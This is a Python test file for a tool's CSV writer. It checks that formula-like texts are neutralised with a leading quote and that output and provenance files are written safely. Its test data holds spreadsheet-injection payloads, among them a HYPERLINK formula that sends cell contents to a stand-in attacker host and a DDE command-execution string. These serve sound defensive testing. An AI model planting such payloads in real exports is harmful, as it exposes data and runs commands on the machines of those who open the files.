"""Tables and their provenance side-cars: written as a pair, formula-like texts defused."""

import errno
import io
import json
import os

import pandas as pd
import pytest

from calibsim_gui.core.analysis.pairs import ScoredPairs
from calibsim_gui.core.errors import InputError, WriteError
from calibsim_gui.core.io import csv_writer
from calibsim_gui.core.io.csv_writer import write_csv
from calibsim_gui.core.io.output import check_output_path, protect_formulas, write_scored_pairs

HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
           "@SUM(A1:A2)", "\tTAB", "\rCR", "plain text", "a = b"]


# texts longer than a piece once `small_pieces` makes a long text 8 characters: quotes, separators
# and line ends on either side of a piece's end, characters of 2 and 4 UTF-8 bytes, formulas
LONG = ['He said "stop", then left.\nAnd "so" on', "tab\there, é and 😀 " * 3, "=1+2, " * 5, "\rcarriage return",
        "  leading spaces and a quote at the end\"", "plain words and nothing else", '"' * 11]


def scored(texts=HOSTILE, dtype="str"):
    frame = pd.DataFrame({"sentence1": pd.Series(texts, dtype=dtype), "sentence2": pd.Series(texts[::-1], dtype=dtype),
                          "cosine_raw": [-0.5 + i / 10 for i in range(len(texts))]})
    return ScoredPairs(frame, {"model": {"id": "fake"}})


@pytest.fixture
def small_pieces(monkeypatch):
    """Texts over 8 characters are long, and written 5 characters (Arrow: bytes) at a time."""
    monkeypatch.setattr(csv_writer, "LONG_TEXT", 8)
    monkeypatch.setattr(csv_writer, "PIECE", 5)


@pytest.mark.parametrize("dtype", ["str", object])
def test_formula_like_texts_get_a_leading_quote_and_numbers_stay(tmp_path, dtype):
    out = write_scored_pairs(scored(dtype=dtype), tmp_path / "s.csv")
    back = pd.read_csv(out, keep_default_na=False)
    assert back["sentence1"].tolist() == ["'" + t for t in HOSTILE[:7]] + HOSTILE[7:]
    assert back["cosine_raw"].tolist() == pytest.approx(scored().frame["cosine_raw"].tolist())
    protection = json.loads((tmp_path / "s.csv.provenance.json").read_text())["formula_protection"]
    assert protection["applied"] is True and protection["cells_changed"] == 14


@pytest.mark.parametrize("dtype", ["str", object])
@pytest.mark.parametrize(("sep", "line_end", "index"), [(",", "\n", False), ("\t", "\r\n", True)])
def test_long_texts_are_written_byte_for_byte_as_pandas_writes_them(small_pieces, dtype, sep, line_end, index):
    texts = LONG + ["short", "", None]
    frame = scored(texts, dtype).frame.assign(cosine_raw=[0.1 * i if i % 4 else float("nan") for i in range(len(texts))])
    for table in (frame, frame[["sentence1"]], frame.iloc[::-1]):
        expected, written = io.StringIO(), io.StringIO()
        table.to_csv(expected, sep=sep, lineterminator=line_end, index=index, float_format="%.10g")
        write_csv(table, written, sep=sep, lineterminator=line_end, index=index, float_format="%.10g")
        assert written.getvalue() == expected.getvalue()


def test_a_table_with_long_texts_is_written_as_before_and_reads_back_as_it_was(small_pieces, tmp_path):
    out = write_scored_pairs(scored(LONG), tmp_path / "s.csv")
    protected = protect_formulas(scored(LONG).frame)[0]
    assert out.read_bytes() == protected.to_csv(index=False, lineterminator="\r\n", float_format="%.10g").encode()
    back = pd.read_csv(out, keep_default_na=False)
    assert back["sentence1"].tolist() == ["'" + t if t.startswith(("=", "\r")) else t for t in LONG]
    assert json.loads((tmp_path / "s.csv.provenance.json").read_text())["formula_protection"]["cells_changed"] == 4


def test_keep_formulas_writes_texts_as_they_are_and_says_so(tmp_path):
    out = write_scored_pairs(scored(), tmp_path / "s.tsv", keep_formulas=True)
    back = pd.read_csv(out, sep="\t", keep_default_na=False, quoting=0)
    assert back["sentence1"].tolist()[:5] == HOSTILE[:5]
    protection = json.loads((tmp_path / "s.tsv.provenance.json").read_text())["formula_protection"]
    assert protection == {**protection, "applied": False, "cells_changed": 0}


def test_column_names_and_index_are_protected_too():
    frame = pd.DataFrame({"=evil": ["x"]}, index=pd.Index(["@doc"], name="ids"))
    out, changed = protect_formulas(frame)
    assert (list(out.columns), list(out.index), changed) == (["'=evil"], ["'@doc"], 2)


def previous_pair(tmp_path):
    out = write_scored_pairs(scored(["old"] * 3), tmp_path / "s.csv")
    sidecar = tmp_path / "s.csv.provenance.json"
    return out, sidecar, out.read_bytes(), sidecar.read_bytes()


def test_a_failed_side_car_rename_restores_the_previous_table_and_side_car(tmp_path, monkeypatch):
    out, sidecar, table_before, sidecar_before = previous_pair(tmp_path)
    replace = os.replace

    def full_at_the_side_car(src, dst):
        if str(dst).endswith(".provenance.json"):
            raise OSError(errno.ENOSPC, "No space left on device", str(dst))
        return replace(src, dst)

    monkeypatch.setattr(os, "replace", full_at_the_side_car)
    with pytest.raises(WriteError, match="No space left on device.*free some disk space") as caught:
        write_scored_pairs(scored(), out)
    assert isinstance(caught.value, InputError) and isinstance(caught.value, OSError)
    assert str(sidecar) in str(caught.value)
    monkeypatch.undo()
    assert (out.read_bytes(), sidecar.read_bytes()) == (table_before, sidecar_before)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.csv", "s.csv.provenance.json"]


def test_a_full_disk_while_writing_leaves_both_files_as_they_were(tmp_path, monkeypatch):
    out, sidecar, table_before, sidecar_before = previous_pair(tmp_path)

    def disk_full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", disk_full)
    with pytest.raises(WriteError, match=r"s\.csv: could not write the file \(No space left"):
        write_scored_pairs(scored(), out)
    assert (out.read_bytes(), sidecar.read_bytes()) == (table_before, sidecar_before)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.csv", "s.csv.provenance.json"]


def test_an_existing_side_car_needs_force_and_an_input_is_never_replaced(tmp_path):
    (tmp_path / "s.csv.provenance.json").write_text("{}")
    with pytest.raises(InputError, match=r"provenance\.json: the output file exists already"):
        check_output_path(tmp_path / "s.csv")
    check_output_path(tmp_path / "s.csv", force=True)
    pairs = tmp_path / "pairs.csv"
    pairs.write_text("a,b\n")
    with pytest.raises(InputError, match="would overwrite the input"):
        check_output_path(pairs, inputs=[pairs], force=True)
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "m.csv").write_text("x")
    with pytest.raises(InputError, match="would overwrite the input"):
        check_output_path(folder / "m.csv", inputs=[folder], force=True)
